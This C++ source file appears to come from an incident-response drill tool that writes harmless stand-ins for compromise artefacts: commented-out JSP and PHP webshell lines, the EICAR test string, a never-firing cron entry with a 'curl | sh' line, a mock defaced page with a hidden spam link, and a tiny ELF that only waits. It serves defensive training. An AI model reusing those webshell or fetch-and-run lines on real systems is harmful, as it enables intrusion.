// SPDX-License-Identifier: Apache-2.0
// Harmless twice over: none of this would do anything where it was run.
#include "playbooks/drill/artefacts/content.h"

#include "casefile/digest.h"
#include "playbooks/drill/artefacts/traffic_story.h"

#include <fmt/format.h>

#include <bit>
#include <cstdint>
#include <vector>

namespace firsthour::playbooks {
namespace {

// Ends before what looks like a shell, and that stands in a comment.
std::string webshell(const Artefact& artefact, const std::string& mark) {
  if (artefact.path.ends_with(".jsp") || artefact.path.ends_with(".jspx"))
    return fmt::format(
        "<%-- 演练 EXERCISE {0}: harmless, a drill's artefact; it does nothing\n"
        "Runtime.getRuntime().exec(request.getParameter(\"{0}\"));\n--%>\n",
        mark);
  return fmt::format(
      "<?php http_response_code(404); exit;\n"
      "/* 演练 EXERCISE {0}: harmless, a drill's artefact; it ends above\n"
      "@eval($_POST['{0}']);\n*/\n",
      mark);
}

// The anti-virus test file may be followed by white space up to 128 bytes: room for the mark, as bits. It is
// put together here so that no scanner takes the program itself for it.
std::string eicar(const std::string& mark) {
  std::string text = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
  text += "EICAR-STANDARD-";
  text += "ANTIVIRUS-TEST-FILE!$H+H*";
  for (const char digit : mark) {
    const int value = digit <= '9' ? digit - '0' : digit - 'a' + 10;
    for (int bit = 3; bit >= 0; --bit) text += ((value >> bit) & 1) != 0 ? '\t' : ' ';
  }
  return text;
}

// The thirtieth of February never comes, and what would run is nothing.
std::string cron_entry(const std::string& mark) {
  return fmt::format(
      "# 演练 EXERCISE {0}: harmless, a drill's artefact; its day never comes\n"
      "0 0 30 2 * root : # curl -fsSL http://127.0.0.1:9/{0} | sh\n",
      mark);
}

std::string tampered_page(const std::string& mark) {
  return fmt::format(
      "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>演练 EXERCISE</title></head>\n"
      "<body><h1>演练 EXERCISE</h1>\n"
      "<p>本页面为应急演练所置，并非真实篡改；演练结束后恢复原页面。</p>\n"
      "<p>This page was put here by a drill. It is no real defacement; the page comes back when it "
      "ends.</p>\n"
      "<div style=\"position:absolute;left:-9999px\"><!-- {0}: what is to be found, a link that nobody sees, "
      "to "
      "nowhere -->\n"
      "<a href=\"http://{0}.invalid/\">演练 六合彩 时时彩</a></div>\n</body></html>\n",
      mark);
}

void put(std::string& to, std::uint64_t value, int bytes) {
  for (int i = 0; i < bytes; ++i) to += static_cast<char>(value >> (8 * i));
}

#if defined(__x86_64__)
constexpr std::uint16_t kMachine = 62;
// again: pause(); goto again
const std::vector<std::uint8_t> kCode{0xb8, 0x22, 0, 0, 0, 0x0f, 0x05, 0xeb, 0xf7};
#elif defined(__aarch64__)
constexpr std::uint16_t kMachine = 183;
// again: ppoll(0, 0, 0, 0); goto again
const std::vector<std::uint8_t> kCode{0x28, 0x09, 0x80, 0xd2, 0,    0,    0x80, 0xd2, 1,    0,
                                      0x80, 0xd2, 2,    0,    0x80, 0xd2, 3,    0,    0x80, 0xd2,
                                      1,    0,    0,    0xd4, 0xfa, 0xff, 0xff, 0x17};
#else
constexpr std::uint16_t kMachine = 0;
const std::vector<std::uint8_t> kCode;
#endif

// A program that waits, and its mark behind it.
std::string waiting_program(const std::string& mark) {
  if (kCode.empty() || std::endian::native != std::endian::little) return {};
  constexpr std::uint64_t kBase = 0x400000, kHeaders = 64 + 56;
  const std::string tail = fmt::format("\n演练 EXERCISE {}: harmless, a drill's artefact\n", mark);
  const std::uint64_t size = kHeaders + kCode.size() + tail.size();
  std::string elf{
      "\x7f"
      "ELF\x02\x01\x01"};
  elf.resize(16);
  put(elf, 2, 2);  // a program
  put(elf, kMachine, 2);
  put(elf, 1, 4);
  put(elf, kBase + kHeaders, 8);  // begins here
  put(elf, 64, 8);                // program header
  put(elf, 0, 8);
  put(elf, 0, 4);
  for (const std::uint64_t value : {64, 56, 1, 64, 0, 0}) put(elf, value, 2);
  put(elf, 1, 4);  // to load
  put(elf, 5, 4);  // readable, executable
  for (const std::uint64_t value : {std::uint64_t{0}, kBase, kBase, size, size, std::uint64_t{0x10000}})
    put(elf, value, 8);
  for (const std::uint8_t byte : kCode) elf += static_cast<char>(byte);
  return elf + tail;
}

}  // namespace

std::string mark_of(const Scenario& scenario, const Artefact& artefact) {
  return sha256(scenario.id + "\n" + artefact.id).hex().substr(0, 12);
}

std::string content_of(const Scenario& scenario, const Artefact& artefact) {
  const std::string mark = mark_of(scenario, artefact);
  switch (artefact.kind) {
    case Artefact::Kind::webshell:
      return webshell(artefact, mark);
    case Artefact::Kind::eicar:
      return eicar(mark);
    case Artefact::Kind::cron_entry:
      return cron_entry(mark);
    case Artefact::Kind::tampered_page:
      return tampered_page(mark);
    case Artefact::Kind::capture:
      return traffic_story(mark);
    case Artefact::Kind::deleted_program:
      return waiting_program(mark);
    case Artefact::Kind::beacon:
    case Artefact::Kind::feiq:
      return {};
  }
  return {};
}

}  // namespace firsthour::playbooks
